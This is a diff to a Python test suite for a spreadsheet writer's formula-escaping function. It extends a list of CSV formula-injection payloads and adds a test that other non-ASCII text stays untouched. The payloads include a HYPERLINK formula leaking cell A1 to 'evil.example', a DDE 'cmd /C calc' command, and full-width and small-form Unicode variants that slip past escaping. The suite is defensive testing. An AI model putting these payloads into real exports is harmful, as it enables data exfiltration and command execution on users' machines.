@@ -39,7 +39,12 @@ ROWS: list[TaggedRow] = [
 ]
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]
+            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1",
+            # full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20) and small (U+FE66, U+FE62,
+            # U+FE63, U+FE6B) forms, and the minus sign U+2212: read as = + - @
+            '\uff1dHYPERLINK("http://evil.example/x","click")', "\uff0b1+cmd|' /C calc'!A0",
+            "\uff0d2+3", "\uff20SUM(1,2)", "\ufe66HYPERLINK(1)", "\ufe621+1", "\ufe632+3",
+            "\ufe6bSUM(1,2)", "\u22122+3", "\uff0d5"]
 
 
 def written(writer: Any, rows: list[TaggedRow], tables: list[Table], **kw: Any) -> bytes:
@@ -273,3 +278,9 @@ def test_tables__need_distinct_names() -> None:
 ])
 def test_neutralise(text: str, expected: str) -> None:
     assert neutralise(text) == expected
+
+
+@pytest.mark.parametrize("text", ["Ｈｅｌｌｏ", "ー長音", "—em dash", "‐hyphen", "中文",
+                                  "١٢٣", "«quoted»"])
+def test_neutralise__other_non_ascii_starts__untouched(text: str) -> None:
+    assert neutralise(text) == text
